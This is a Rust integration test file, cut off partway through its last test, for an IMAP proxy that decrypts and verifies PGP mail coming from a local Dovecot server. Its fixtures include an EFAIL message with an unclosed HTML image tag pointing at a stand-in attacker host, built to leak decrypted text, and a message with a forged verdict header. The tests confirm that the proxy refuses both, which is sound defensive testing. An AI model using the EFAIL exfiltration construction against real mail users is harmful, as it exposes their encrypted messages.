//! The IMAP proxy against a private Dovecot IMAP server, read with Python's imaplib:
//! encrypted mail comes back decrypted and verified for the logged-in user, plain mail
//! byte for byte, and what the proxy does not handle is not advertised.

use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::Mutex;

use super::common::{Gpg, Sealpost, Server};
use super::upstream::free_port;

/// Bob's password at the private Dovecot.
const PASSWORD: &str = "imap-secret";

/// The private Dovecot (IMAP only, plain text on loopback) and Bob's mailbox.
struct Dovecot {
    port: u16,
    /// The shell, whose stdin pipe is held open: Dovecot stops when it closes.
    _shell: Mutex<std::process::Child>,
}

fn start_dovecot(fixtures: &[(&str, Vec<u8>)]) -> Dovecot {
    use std::os::unix::fs::{chown, PermissionsExt};
    let dir = tempfile::Builder::new()
        .prefix("sealpost-imap")
        .tempdir()
        .expect("tempdir")
        .keep();
    std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755)).expect("chmod");
    let home = dir.join("mail/example.org/bob");
    let maildir = home.join("Maildir");
    for sub in ["new", "cur", "tmp"] {
        std::fs::create_dir_all(maildir.join(sub)).expect("maildir");
    }
    for (i, (name, bytes)) in fixtures.iter().enumerate() {
        // Delivered in this order: UIDs 1, 2, 3 …
        let file = maildir.join(format!("cur/{}.{name}.test:2,", 1_700_000_000 + i));
        std::fs::write(&file, bytes).expect("fixture");
    }
    for entry in walk(&dir.join("mail")) {
        chown(&entry, Some(65534), Some(65534)).expect("chown (the tests run as root)");
    }
    std::fs::write(
        dir.join("passwd"),
        format!("bob@example.org:{{PLAIN}}{PASSWORD}::::::\n"),
    )
    .expect("passwd");
    let port = free_port();
    let d = dir.display();
    let config = format!(
        "base_dir = {d}/run\n\
         state_dir = {d}/state\n\
         instance_name = sealpost-imap-{pid}-{port}\n\
         log_path = {d}/dovecot.log\n\
         protocols = imap\n\
         listen = 127.0.0.1\n\
         ssl = no\n\
         disable_plaintext_auth = no\n\
         first_valid_uid = 65534\n\
         mail_location = maildir:{d}/mail/%d/%n/Maildir\n\
         passdb {{\n  driver = passwd-file\n  args = {d}/passwd\n}}\n\
         userdb {{\n  driver = static\n  args = uid=65534 gid=65534 home={d}/mail/%d/%n\n}}\n\
         service imap-login {{\n  inet_listener imap {{\n    port = {port}\n  }}\n  inet_listener imaps {{\n    port = 0\n  }}\n}}\n",
        pid = std::process::id(),
    );
    let conf = dir.join("dovecot.conf");
    std::fs::write(&conf, config).expect("dovecot.conf");
    let shell = super::common::dovecot(&conf, &dir, &[port], "dovecot-core and dovecot-imapd");
    Dovecot {
        port,
        _shell: Mutex::new(shell),
    }
}

fn walk(dir: &Path) -> Vec<PathBuf> {
    let mut out = vec![dir.to_path_buf()];
    if let Ok(entries) = std::fs::read_dir(dir) {
        for e in entries.flatten() {
            let p = e.path();
            if p.is_dir() {
                out.extend(walk(&p));
            } else {
                out.push(p);
            }
        }
    }
    out
}

/// The world of these tests: Bob's gateway with his key and Alice's certificate, Alice's
/// gpg, Dovecot holding the fixtures, and sealpost proxying to it.
struct World {
    s: Sealpost,
    _dovecot: Dovecot,
    server: Server,
    /// The gateway's configuration, to start it again.
    config: String,
    /// The fixtures as stored.
    plain: Vec<u8>,
    encrypted: Vec<u8>,
    /// Bob's secret key, to read what the proxy stores for him with gpg.
    bob_secret: Vec<u8>,
    /// The proxy's port.
    port: u16,
}

fn crlf(text: &str) -> Vec<u8> {
    text.replace("\r\n", "\n")
        .replace('\n', "\r\n")
        .into_bytes()
}

/// Bob's gateway with his key and Alice's certificate, and Alice's gpg with Bob's.
fn bob_and_alice() -> (Sealpost, Gpg) {
    let s = Sealpost::new();
    s.generate("bob@example.org", &[]);
    let alice = Gpg::new();
    alice.generate("Alice <alice@example.net>", "ed25519", "sign", "never");
    let fpr = alice.fingerprint("alice@example.net");
    alice.ok(&["--quick-add-key", &fpr, "cv25519", "encr", "never"]);
    let alice_pub = alice.ok(&["--armor", "--export", "alice@example.net"]);
    assert!(s
        .run_with_input(&["keys", "import", "-"], &alice_pub)
        .status
        .success());
    alice.ok_with_input(
        &["--import"],
        s.ok(&["keys", "export", "bob@example.org"]).as_bytes(),
    );
    (s, alice)
}

/// One Dovecot and one gateway for every check below; both stop when it is dropped.
fn world() -> World {
    {
        let (s, alice) = bob_and_alice();
        let payload = crlf(
            "Content-Type: text/plain; charset=us-ascii; protected-headers=\"v1\"\n\
             Subject: The real plan\n\
             From: Alice <alice@example.net>\n\
             To: bob@example.org\n\n\
             Meet at the harbour at 7. IMAP-SECRET-4711\n",
        );
        let armored = alice.ok_with_input(
            &[
                "--armor",
                "--sign",
                "--encrypt",
                "-u",
                "alice@example.net",
                "-r",
                "bob@example.org",
            ],
            &payload,
        );
        let encrypted = [
            crlf(
                "From: Alice <alice@example.net>\nTo: bob@example.org\nSubject: [...]\n\
                 Date: Fri, 04 Dec 2026 10:00:00 +0000\nMessage-ID: <enc-1@example.net>\n\
                 MIME-Version: 1.0\n\
                 Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"b\"\n\n\
                 --b\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\n\
                 --b\nContent-Type: application/octet-stream\n\n",
            ),
            crlf(String::from_utf8_lossy(&armored).trim_end()),
            b"\r\n--b--\r\n".to_vec(),
        ]
        .concat();
        let plain = crlf(
            "From: Carol <carol@example.com>\nTo: bob@example.org\nSubject: lunch?\n\
             Date: Fri, 04 Dec 2026 09:00:00 +0000\nMessage-ID: <plain-1@example.com>\n\n\
             Plain text, stored as it is.   \n",
        );
        // EFAIL: a plain message with Alice's ciphertext for Bob attached below the root.
        let efail = [
            crlf(
                "From: Mallory <mallory@evil.example>\nTo: bob@example.org\nSubject: see attached\n\
                 MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=\"m\"\n\n\
                 --m\nContent-Type: text/html\n\n<img src=\"http://evil.example/?\n\
                 --m\nContent-Type: text/plain\n\n",
            ),
            crlf(String::from_utf8_lossy(&armored).trim_end()),
            b"\r\n--m--\r\n".to_vec(),
        ]
        .concat();
        let dovecot = start_dovecot(&[
            ("plain", plain.clone()),
            ("encrypted", encrypted.clone()),
            ("efail", efail),
        ]);
        let bob_secret = s
            .ok(&[
                "keys",
                "export",
                "--secret",
                "--unprotected",
                "bob@example.org",
            ])
            .into_bytes();
        let config = format!(
            "[[listener]]\nmode = \"outbound\"\naddress = \"127.0.0.1:0\"\ntls = \"none\"\n\n\
             [imap]\nlisten = \"127.0.0.1:0\"\nupstream = \"127.0.0.1:{}\"\nupstream_tls = \"none\"\n\
             encrypt_appended = true\n",
            dovecot.port
        );
        let server = s.serve(&config, &[]);
        let port = proxy_port(&server);
        World {
            s,
            _dovecot: dovecot,
            server,
            config,
            plain,
            encrypted,
            bob_secret,
            port,
        }
    }
}

/// Runs a Python imaplib script against `port`; `IMAP` is the logged-in connection with
/// INBOX selected. Returns stdout.
fn imaplib(port: u16, body: &str) -> String {
    let script = format!(
        "import imaplib, sys, base64\n\
         IMAP = imaplib.IMAP4('127.0.0.1', {port})\n\
         IMAP.login('bob@example.org', '{PASSWORD}')\n\
         IMAP.select('INBOX')\n\
         def out(b):\n    assert isinstance(b, bytes), repr(b)\n    sys.stdout.write(base64.b64encode(b).decode() + '\\n')\n\
         def flat(data):\n    return b''.join(b''.join(d) if isinstance(d, tuple) else d for d in data)\n\
         {body}\n\
         IMAP.logout()\n"
    );
    python(&script)
}

/// Runs a Python script; its stdout, failing the test (with the script) when it fails.
fn python(script: &str) -> String {
    let out = Command::new("python3")
        .arg("-c")
        .arg(script)
        .output()
        .expect("python3");
    assert!(
        out.status.success(),
        "python failed: {}\n{script}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// The port `serve` printed for its IMAP proxy.
fn proxy_port(server: &Server) -> u16 {
    let out = server.stdout.lock().unwrap().clone();
    out.lines()
        .find_map(|l| l.split("IMAP proxy on ").nth(1))
        .and_then(|r| r.split_whitespace().next())
        .and_then(|a| a.rsplit(':').next())
        .and_then(|p| p.parse().ok())
        .unwrap_or_else(|| panic!("no IMAP proxy line in {out}"))
}

/// The base64 lines a script wrote with `out`, decoded.
fn decoded(stdout: &str) -> Vec<Vec<u8>> {
    use base64::Engine;
    stdout
        .lines()
        .map(|l| {
            base64::engine::general_purpose::STANDARD
                .decode(l.trim())
                .expect("base64 line")
        })
        .collect()
}

#[test]
fn the_imap_proxy_serves_dovecot_mail_to_imaplib() {
    let mut w = world();
    encrypted_mail_is_fetched_decrypted_and_verified_plain_mail_byte_for_byte(&w);
    the_message_list_shows_the_real_subject_and_sections_agree(&w);
    the_structure_and_numbered_parts_are_the_decrypted_message_s(&w);
    efail_through_imap_is_refused_as_on_the_smtp_path(&w);
    only_what_the_proxy_handles_is_advertised_and_flags_pass(&w);
    fetchmail_delivers_the_opened_message_and_plain_mail_as_stored(&w);
    appended_copies_reach_the_provider_encrypted_to_bob_s_own_key(&w);
    after_an_expunge_a_sequence_number_gets_the_message_it_now_names(&w);
    // Last: it removes Bob's key.
    opened_messages_rest_sealed_on_disk_and_outlive_a_restart(&mut w);
}

/// What the proxy opened is kept in the data directory, sealed: no file holds the
/// plaintext, the login or the mailbox. After a restart, the message is served opened
/// from there: with Bob's secret key removed meanwhile, nothing else could open it.
fn opened_messages_rest_sealed_on_disk_and_outlive_a_restart(w: &mut World) {
    let dir = w.s.data_dir().join("imap-cache");
    let files: Vec<PathBuf> = std::fs::read_dir(&dir)
        .expect("the disk cache")
        .flatten()
        .map(|e| e.path())
        .filter(|p| p.file_name().is_some_and(|n| n.len() == 64))
        .collect();
    assert!(
        !files.is_empty(),
        "opened messages on disk in {}",
        dir.display()
    );
    for f in &files {
        let bytes = std::fs::read(f).expect("read");
        for clear in [
            &b"IMAP-SECRET-4711"[..],
            b"The real plan",
            b"bob@example.org",
            b"INBOX",
        ] {
            assert!(
                !bytes.windows(clear.len()).any(|w| w == clear),
                "{} holds {:?} in the clear",
                f.display(),
                String::from_utf8_lossy(clear)
            );
        }
    }
    let _ = w.server.terminate();
    let listed = w.s.list_json();
    let fpr = listed
        .as_array()
        .and_then(|keys| keys.iter().find(|k| k["has_secret"] == true))
        .and_then(|k| k["fingerprint"].as_str())
        .expect("Bob's key")
        .to_string();
    w.s.ok(&["keys", "remove", &fpr]);
    w.server = w.s.serve(&w.config, &[]);
    let port = proxy_port(&w.server);
    let got = decoded(&imaplib(
        port,
        "typ, data = IMAP.uid('FETCH', b'2', '(BODY.PEEK[])')\nout(data[0][1])\n",
    ));
    let enc = String::from_utf8_lossy(&got[0]);
    assert!(
        enc.contains("IMAP-SECRET-4711"),
        "served opened from disk: {enc}"
    );
    assert!(enc.contains("\r\nSubject: The real plan\r\n"), "{enc}");
}

fn encrypted_mail_is_fetched_decrypted_and_verified_plain_mail_byte_for_byte(w: &World) {
    let got = decoded(&imaplib(
        w.port,
        "for uid in (b'1', b'2'):\n\
         \x20   typ, data = IMAP.uid('FETCH', uid, '(RFC822.SIZE BODY.PEEK[])')\n\
         \x20   out(data[0][0]); out(data[0][1])\n",
    ));
    let (plain_meta, plain) = (&got[0], &got[1]);
    assert_eq!(plain, &w.plain, "plain mail passes byte for byte");
    let size = format!("RFC822.SIZE {}", w.plain.len());
    assert!(
        String::from_utf8_lossy(plain_meta).contains(&size),
        "{}",
        String::from_utf8_lossy(plain_meta)
    );
    let (enc_meta, enc) = (
        String::from_utf8_lossy(&got[2]),
        String::from_utf8_lossy(&got[3]),
    );
    assert!(enc.contains("IMAP-SECRET-4711"), "{enc}");
    assert!(!enc.contains("BEGIN PGP MESSAGE"), "{enc}");
    assert!(
        enc.contains("X-Sealpost-Verdict: signature=valid; encryption=decrypted"),
        "{enc}"
    );
    assert!(enc.contains("\r\nSubject: The real plan\r\n"), "{enc}");
    // The size the client is told is the size of what it gets.
    assert!(
        enc_meta.contains(&format!("RFC822.SIZE {}", got[3].len())),
        "{enc_meta} vs {}",
        got[3].len()
    );
}

fn the_message_list_shows_the_real_subject_and_sections_agree(w: &World) {
    let got = decoded(&imaplib(
        w.port,
        "typ, data = IMAP.uid('FETCH', '2', '(FLAGS ENVELOPE BODY.PEEK[HEADER.FIELDS (SUBJECT FROM)])')\n\
         out(flat(data))\n\
         typ, data = IMAP.uid('FETCH', '2', '(BODY.PEEK[TEXT]<0.20>)')\n\
         out(flat(data))\n\
         typ, data = IMAP.uid('FETCH', '2', '(BODY.PEEK[])')\n\
         out(data[0][1])\n",
    ));
    let list = String::from_utf8_lossy(&got[0]);
    // Opened before: the upstream was asked for the UID and flags alone, the rest comes
    // from the cache.
    assert!(list.contains("UID 2 FLAGS ("), "{list}");
    assert!(list.contains("ENVELOPE (\"Fri, 04 Dec 2026"), "{list}");
    assert!(list.contains("\"The real plan\""), "{list}");
    assert!(list.contains("Subject: The real plan\r\n"), "{list}");
    assert!(!list.contains("[...]"), "{list}");
    let whole = &got[2];
    let split = whole
        .windows(4)
        .position(|w| w == b"\r\n\r\n")
        .expect("header end")
        + 4;
    let text = &whole[split..split + 20];
    assert!(
        got[1].windows(20).any(|w| w == text),
        "BODY[TEXT]<0.20> is the text of BODY[]: {} vs {}",
        String::from_utf8_lossy(&got[1]),
        String::from_utf8_lossy(text)
    );
}

/// A client that reads the structure first and then fetches part by part (Thunderbird
/// does) gets the decrypted message's parts, not the PGP/MIME container's.
fn the_structure_and_numbered_parts_are_the_decrypted_message_s(w: &World) {
    let got = decoded(&imaplib(
        w.port,
        "typ, data = IMAP.uid('FETCH', '2', '(BODYSTRUCTURE)')\nout(flat(data))\n\
         typ, data = IMAP.uid('FETCH', '2', '(BODY.PEEK[1] BODY.PEEK[1.MIME])')\nout(flat(data))\n\
         typ, data = IMAP.uid('FETCH', '1', '(BODYSTRUCTURE)')\nout(flat(data))\n",
    ));
    let structure = String::from_utf8_lossy(&got[0]).to_ascii_uppercase();
    assert!(structure.contains("(\"TEXT\" \"PLAIN\""), "{structure}");
    assert!(!structure.contains("PGP-ENCRYPTED"), "{structure}");
    let part = String::from_utf8_lossy(&got[1]);
    assert!(part.contains("IMAP-SECRET-4711"), "{part}");
    // A plain message's structure is the server's own.
    let plain = String::from_utf8_lossy(&got[2]).to_ascii_uppercase();
    assert!(plain.contains("\"TEXT\" \"PLAIN\""), "{plain}");
}

fn efail_through_imap_is_refused_as_on_the_smtp_path(w: &World) {
    let got = decoded(&imaplib(
        w.port,
        "typ, data = IMAP.uid('FETCH', '3', '(BODY.PEEK[])')\nout(data[0][1])\n",
    ));
    let m = String::from_utf8_lossy(&got[0]);
    assert!(m.contains("encryption=nested-ignored"), "{m}");
    assert!(!m.contains("IMAP-SECRET-4711"), "{m}");
    assert!(
        m.contains("BEGIN PGP MESSAGE"),
        "the ciphertext stays as it came: {m}"
    );
}

fn only_what_the_proxy_handles_is_advertised_and_flags_pass(w: &World) {
    let got = imaplib(
        w.port,
        "typ, caps = IMAP.capability()\nout(caps[0])\n\
         IMAP.uid('STORE', '1', '+FLAGS', '(\\\\Flagged)')\n\
         typ, data = IMAP.uid('FETCH', '1', '(FLAGS)')\nout(flat(data))\n\
         typ, data = IMAP.uid('SEARCH', None, 'ALL')\nout(data[0])\n",
    );
    let got = decoded(&got);
    let caps = String::from_utf8_lossy(&got[0]).to_ascii_uppercase();
    assert!(caps.contains("IMAP4REV1"), "{caps}");
    for dropped in ["COMPRESS", "BINARY", "CONDSTORE", "STARTTLS", "SORT"] {
        assert!(!caps.contains(dropped), "{dropped} in {caps}");
    }
    assert!(
        String::from_utf8_lossy(&got[1]).contains("\\Flagged"),
        "{:?}",
        got[1]
    );
    assert_eq!(String::from_utf8_lossy(&got[2]), "1 2 3");
}

/// Runs `body` in Python with `IMAP`, an imaplib connection logged in as Bob to `port`
/// (Dovecot itself or the proxy); returns what it wrote with `out`.
fn imaplib_raw(port: u16, body: &str) -> Vec<Vec<u8>> {
    decoded(&python(&format!(
        "import imaplib, sys, base64\n\
         IMAP = imaplib.IMAP4('127.0.0.1', {port})\n\
         IMAP.login('bob@example.org', '{PASSWORD}')\n\
         def out(b):\n    assert isinstance(b, bytes), repr(b)\n    sys.stdout.write(base64.b64encode(b).decode() + '\\n')\n\
         {body}\n\
         IMAP.logout()\n"
    )))
}

/// `encrypt_appended = true`: the sent copy a client APPENDs is stored at the provider as
/// PGP/MIME to Bob's own key (read straight from Dovecot, opened by gpg), and comes back
/// through the proxy as the message the client stored; a message already encrypted is
/// stored as it came.
fn appended_copies_reach_the_provider_encrypted_to_bob_s_own_key(w: &World) {
    use base64::Engine;
    let sent = crlf(
        "From: Bob <bob@example.org>\nTo: Carol <carol@example.com>\n\
         Subject: Sent copy of the plan\nDate: Fri, 04 Dec 2026 11:00:00 +0000\n\
         Message-ID: <sent-1@example.org>\n\n\
         The boat leaves at 8. APPEND-SECRET-0815\n",
    );
    let b64 = |m: &[u8]| base64::engine::general_purpose::STANDARD.encode(m);
    let reply = imaplib(
        w.port,
        &format!(
            "IMAP.create('Sent')\n\
             typ, data = IMAP.append('Sent', '(\\\\Seen)', None, base64.b64decode('{}'))\n\
             out((typ + ' ').encode() + data[0])\n\
             typ, data = IMAP.append('Sent', None, None, base64.b64decode('{}'))\n\
             out((typ + ' ').encode() + data[0])\n",
            b64(&sent),
            b64(&w.encrypted)
        ),
    );
    for r in decoded(&reply) {
        assert!(r.starts_with(b"OK "), "{}", String::from_utf8_lossy(&r));
    }
    // Straight from Dovecot, not through the proxy.
    let stored = imaplib_raw(
        w._dovecot.port,
        "IMAP.select('Sent')\n\
         for uid in (b'1', b'2'):\n\
         \x20   typ, data = IMAP.uid('FETCH', uid, '(FLAGS BODY.PEEK[])')\n\
         \x20   out(data[0][0]); out(data[0][1])\n",
    );
    let (meta, at_provider) = (String::from_utf8_lossy(&stored[0]), &stored[1]);
    assert!(meta.contains("\\Seen"), "flags kept: {meta}");
    let text = String::from_utf8_lossy(at_provider);
    assert!(text.contains("Content-Type: multipart/encrypted"), "{text}");
    assert!(!text.contains("APPEND-SECRET-0815"), "{text}");
    assert!(
        !text.contains("Sent copy of the plan"),
        "the Subject is protected: {text}"
    );
    assert_eq!(
        &stored[3], &w.encrypted,
        "an encrypted message is stored as it came"
    );
    let start = text.find("-----BEGIN PGP MESSAGE-----").expect("armor");
    let end = text.find("-----END PGP MESSAGE-----").expect("armor end") + 25;
    let bob = Gpg::new();
    bob.ok_with_input(&["--import"], &w.bob_secret);
    let opened = bob.run_with_input(&["--decrypt"], text[start..end].as_bytes());
    let opened_text = String::from_utf8_lossy(&opened.stdout);
    assert!(
        opened.status.success(),
        "gpg: {}",
        String::from_utf8_lossy(&opened.stderr)
    );
    assert!(opened_text.contains("APPEND-SECRET-0815"), "{opened_text}");
    assert!(
        opened_text.contains("Subject: Sent copy of the plan"),
        "{opened_text}"
    );
    let status = String::from_utf8_lossy(&opened.stderr);
    assert!(
        status.contains("Good signature"),
        "signed by Bob's key: {status}"
    );
    // Through the proxy: the message the client stored.
    let back = imaplib_raw(
        w.port,
        "IMAP.select('Sent')\n\
         typ, data = IMAP.uid('FETCH', '1', '(ENVELOPE BODY.PEEK[])')\n\
         out(data[0][0]); out(data[0][1])\n",
    );
    let envelope = String::from_utf8_lossy(&back[0]);
    assert!(envelope.contains("\"Sent copy of the plan\""), "{envelope}");
    let through = String::from_utf8_lossy(&back[1]);
    assert!(through.contains("APPEND-SECRET-0815"), "{through}");
    assert!(
        through.contains("X-Sealpost-Verdict: signature=valid; encryption=decrypted"),
        "{through}"
    );
}

/// A message fetched whole a second time comes from the cache, found by its UID: once an
/// EXPUNGE renumbers the mailbox, sequence number 1 is the message that is first now, not
/// the one cached as number 1 before. (Sent holds Bob's sent copy, then Alice's message.)
fn after_an_expunge_a_sequence_number_gets_the_message_it_now_names(w: &World) {
    let got = imaplib_raw(
        w.port,
        &format!(
            "IMAP.select('Sent')\n\
             typ, data = IMAP.fetch('1:2', '(BODY.PEEK[])')\n\
             for d in data:\n\
             \x20   if isinstance(d, tuple):\n\
             \x20       out(d[0]); out(d[1])\n\
             D = imaplib.IMAP4('127.0.0.1', {dovecot})\n\
             D.login('bob@example.org', '{PASSWORD}')\n\
             D.select('Sent')\n\
             D.store('1', '+FLAGS', '(\\\\Deleted)')\n\
             D.expunge()\n\
             D.logout()\n\
             IMAP.noop()\n\
             typ, data = IMAP.fetch('1', '(BODY.PEEK[])')\n\
             out(data[0][0]); out(data[0][1])\n",
            dovecot = w._dovecot.port
        ),
    );
    let text = |b: &Vec<u8>| String::from_utf8_lossy(b).into_owned();
    let before: Vec<(String, String)> = got[..4]
        .chunks(2)
        .map(|p| (text(&p[0]), text(&p[1])))
        .collect();
    let first = before
        .iter()
        .find(|(m, _)| m.starts_with("1 "))
        .expect("message 1");
    let second = before
        .iter()
        .find(|(m, _)| m.starts_with("2 "))
        .expect("message 2");
    assert!(first.1.contains("APPEND-SECRET-0815"), "{first:?}");
    assert!(second.1.contains("IMAP-SECRET-4711"), "{second:?}");
    let (meta, now_first) = (text(&got[4]), text(&got[5]));
    assert!(meta.starts_with("1 (UID 2 "), "{meta}");
    assert!(
        now_first.contains("IMAP-SECRET-4711"),
        "{meta}\n{now_first}"
    );
    assert!(!now_first.contains("APPEND-SECRET-0815"), "{now_first}");
}

/// A second real client: fetchmail polls the proxy once (no TLS on loopback, messages
/// kept on the server) and hands each message to an MDA that writes it to a file. It
/// reads a message as `BODY.PEEK[HEADER]` and then `BODY.PEEK[TEXT]`, so the two halves
/// it delivers must make up the opened message the proxy serves whole.
fn fetchmail_delivers_the_opened_message_and_plain_mail_as_stored(w: &World) {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().expect("tempdir");
    let out = dir.path().join("out");
    std::fs::create_dir(&out).expect("out dir");
    // One file per message, numbered in the order delivered (fetchmail delivers one at a
    // time, in UID order).
    let deliver = dir.path().join("deliver.sh");
    std::fs::write(
        &deliver,
        format!("n=$(ls {o} | wc -l)\ncat > {o}/$n.eml\n", o = out.display()),
    )
    .expect("deliver.sh");
    let rc = dir.path().join("fetchmailrc");
    std::fs::write(
        &rc,
        format!(
            "set no syslog\nset invisible\n\
             poll 127.0.0.1 service {port} protocol IMAP auth password timeout 30\n\
             \x20 user \"bob@example.org\" there with password \"{PASSWORD}\" is root here\n\
             \x20 sslproto \"\" no rewrite no stripcr keep fetchall\n\
             \x20 mda \"/bin/sh {deliver}\"\n",
            port = w.port,
            deliver = deliver.display()
        ),
    )
    .expect("fetchmailrc");
    // fetchmail refuses an rc file others can read (it holds the password).
    std::fs::set_permissions(&rc, std::fs::Permissions::from_mode(0o600)).expect("chmod");
    let run = Command::new("fetchmail")
        .arg("-f")
        .arg(&rc)
        .args(["--verbose", "--nodetach"])
        .env("FETCHMAILHOME", dir.path())
        .output()
        .expect("fetchmail (deploy/dev.sh installs it)");
    let log = format!(
        "{}{}",
        String::from_utf8_lossy(&run.stdout),
        String::from_utf8_lossy(&run.stderr)
    );
    assert!(run.status.success(), "fetchmail failed: {log}");
    let delivered = |n: usize| {
        std::fs::read(out.join(format!("{n}.eml")))
            .unwrap_or_else(|e| panic!("message {n} not delivered ({e}): {log}"))
    };
    assert_eq!(delivered(0), w.plain, "plain mail byte for byte: {log}");
    let opened = delivered(1);
    let text = String::from_utf8_lossy(&opened);
    assert!(text.contains("IMAP-SECRET-4711"), "{text}");
    assert!(!text.contains("BEGIN PGP MESSAGE"), "{text}");
    assert!(text.contains("\r\nSubject: The real plan\r\n"), "{text}");
    assert!(
        text.contains("X-Sealpost-Verdict: signature=valid; encryption=decrypted"),
        "{text}"
    );
    // The same bytes an IMAP client gets asking for the whole message.
    let whole = decoded(&imaplib(
        w.port,
        "typ, data = IMAP.uid('FETCH', '2', '(BODY.PEEK[])')\nout(data[0][1])\n",
    ));
    assert_eq!(
        opened, whole[0],
        "header and text make up the whole message"
    );
    let efail = String::from_utf8_lossy(&delivered(2)).into_owned();
    assert!(efail.contains("encryption=nested-ignored"), "{efail}");
    assert!(!efail.contains("IMAP-SECRET-4711"), "{efail}");
}

/// TLS towards the mail client, as for the SMTP listeners: STARTTLS (logins refused
/// before it) and TLS from the first byte, with the self-signed certificate. Without
/// `encrypt_appended`, what the client APPENDs is stored byte for byte.
#[test]
fn the_mail_client_can_talk_tls_to_the_proxy() {
    use base64::Engine;
    let plain = crlf("From: <carol@example.com>\nSubject: over TLS\n\nhello\n");
    let sent = crlf("From: Bob <bob@example.org>\nTo: <carol@example.com>\nSubject: sent, plain\n\nstored as it is   \n\tand tabbed\n");
    let sent64 = base64::engine::general_purpose::STANDARD.encode(&sent);
    let dovecot = start_dovecot(&[("plain", plain.clone())]);
    for mode in ["starttls", "tls"] {
        let s = Sealpost::new();
        let config = format!(
            "[[listener]]\nmode = \"outbound\"\naddress = \"127.0.0.1:0\"\ntls = \"none\"\n\n\
             [imap]\nlisten = \"127.0.0.1:0\"\nupstream = \"127.0.0.1:{}\"\nupstream_tls = \"none\"\ntls = \"{mode}\"\n",
            dovecot.port
        );
        let server = s.serve(&config, &[]);
        let port = proxy_port(&server);
        let connect = if mode == "tls" {
            "IMAP = imaplib.IMAP4_SSL('127.0.0.1', PORT, ssl_context=ctx)\n"
        } else {
            "IMAP = imaplib.IMAP4('127.0.0.1', PORT)\n\
             out(' '.join(IMAP.capabilities).encode())\n\
             try:\n    IMAP.login('bob@example.org', PASSWORD)\n    out(b'login in the clear worked')\n\
             except imaplib.IMAP4.error as e:\n    out(str(e).encode())\n\
             IMAP.starttls(ssl_context=ctx)\n"
        };
        let script = format!(
            "import imaplib, ssl, sys, base64\n\
             PORT = {port}\nPASSWORD = '{PASSWORD}'\n\
             def out(b):\n    sys.stdout.write(base64.b64encode(b).decode() + '\\n')\n\
             ctx = ssl.create_default_context()\nctx.check_hostname = False\nctx.verify_mode = ssl.CERT_NONE\n\
             {connect}\
             IMAP.login('bob@example.org', PASSWORD)\nIMAP.select('INBOX')\n\
             typ, data = IMAP.append('INBOX', None, None, base64.b64decode('{sent64}'))\nout(typ.encode())\n\
             typ, data = IMAP.uid('FETCH', '1', '(BODY.PEEK[])')\nout(data[0][1])\n\
             IMAP.logout()\n"
        );
        let got = decoded(&python(&script));
        if mode == "starttls" {
            let caps = String::from_utf8_lossy(&got[0]).to_ascii_uppercase();
            assert!(
                caps.contains("STARTTLS") && caps.contains("LOGINDISABLED"),
                "{caps}"
            );
            let refused = String::from_utf8_lossy(&got[1]);
            assert!(refused.contains("STARTTLS first"), "{refused}");
        }
        assert_eq!(got.last().unwrap(), &plain, "{mode}");
        assert_eq!(got[got.len() - 2], b"OK", "{mode}");
        drop(server);
    }
    // Straight from Dovecot: both appended copies as the client sent them.
    let stored = imaplib_raw(
        dovecot.port,
        "IMAP.select('INBOX')\n\
         for uid in (b'2', b'3'):\n\
         \x20   typ, data = IMAP.uid('FETCH', uid, '(BODY.PEEK[])')\n\
         \x20   out(data[0][1])\n",
    );
    assert_eq!(stored, [sent.clone(), sent]);
}

/// The other kinds of protected mail gpg makes, and a stored message with a verdict field
/// that imitates ours, each through the proxy as the SMTP path treats it: inline
/// encryption is opened, a cleartext signature verified, an unsigned encrypted message
/// opened with `signature=none`, and the forged verdict removed, never served as stored.
#[test]
fn inline_clearsigned_unsigned_and_forged_mail_through_imap() {
    let (s, alice) = bob_and_alice();
    let head = |subject: &str| {
        format!(
            "From: Alice <alice@example.net>\nTo: bob@example.org\nSubject: {subject}\n\
             Date: Fri, 04 Dec 2026 11:00:00 +0000\nMessage-ID: <{subject}@example.net>\n"
        )
    };
    let armored = |args: &[&str], text: &str| {
        String::from_utf8_lossy(&alice.ok_with_input(args, text.as_bytes()))
            .trim_end()
            .to_string()
    };
    let inline = crlf(&format!(
        "{}Content-Type: text/plain\n\n{}\n",
        head("inline"),
        armored(
            &[
                "--armor",
                "--sign",
                "--encrypt",
                "-u",
                "alice@example.net",
                "-r",
                "bob@example.org"
            ],
            "INLINE-SECRET-31\n"
        )
    ));
    let clearsigned = crlf(&format!(
        "{}Content-Type: text/plain\n\n{}\n",
        head("clearsigned"),
        armored(
            &["--clearsign", "-u", "alice@example.net"],
            "CLEARSIGNED-TEXT-32\n"
        )
    ));
    let unsigned = crlf(&format!(
        "{}MIME-Version: 1.0\n\
         Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"b\"\n\n\
         --b\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\n\
         --b\nContent-Type: application/octet-stream\n\n{}\n--b--\n",
        head("unsigned"),
        armored(
            &["--armor", "--encrypt", "-r", "bob@example.org"],
            "Content-Type: text/plain\n\nUNSIGNED-SECRET-33\n"
        )
    ));
    let forged = crlf(&format!(
        "{}X-Sealpost-Verdict: signature=valid; encryption=decrypted\n\n\
         Trust me, this was encrypted and signed.\n",
        head("forged")
    ));
    let dovecot = start_dovecot(&[
        ("inline", inline),
        ("clearsigned", clearsigned),
        ("unsigned", unsigned),
        ("forged", forged),
    ]);
    let config = format!(
        "[[listener]]\nmode = \"outbound\"\naddress = \"127.0.0.1:0\"\ntls = \"none\"\n\n\
         [imap]\nlisten = \"127.0.0.1:0\"\nupstream = \"127.0.0.1:{}\"\nupstream_tls = \"none\"\n",
        dovecot.port
    );
    let server = s.serve(&config, &[]);
    let got = decoded(&imaplib(
        proxy_port(&server),
        "for uid in (b'1', b'2', b'3', b'4'):\n\
         \x20   typ, data = IMAP.uid('FETCH', uid, '(BODY.PEEK[])')\n\
         \x20   out(data[0][1])\n",
    ));
    let text: Vec<String> = got
        .iter()
        .map(|m| {
            String::from_utf8_lossy(m)
                .replace("\r\n\t", " ")
                .replace("\r\n ", " ")
        })
        .collect();
    let verdict = |m: &str| {
        m.lines()
